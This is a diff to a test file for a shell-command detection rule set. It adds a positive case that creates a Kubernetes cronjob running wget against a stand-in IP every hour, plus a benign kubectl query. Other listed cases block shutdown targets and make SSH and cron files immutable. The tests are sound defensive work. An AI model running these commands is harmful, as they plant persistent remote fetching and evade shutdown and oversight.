@@ -56,6 +56,7 @@ def test_rules_load_cleanly():
     ("sudo systemctl mask poweroff.target reboot.target", "shutdown_cancelled_or_blocked"),
     ("chattr +i /etc/cron.d/job", "file_made_immutable"),
     ("chattr -R +ia ~/.ssh", "file_made_immutable"),
+    ("kubectl create cronjob sync --image=alpine --schedule='0 * * * *' -- wget -qO- http://198.51.100.4/x", 'orchestrator_scheduled_job'),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -96,6 +97,7 @@ def test_detected(command, rule):
     "lsattr /etc/cron.d/job",
     "systemd-inhibit --list",
     "systemd-inhibit --what sleep:idle wget https://example.com/file",
+    'kubectl get cronjobs -A',
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
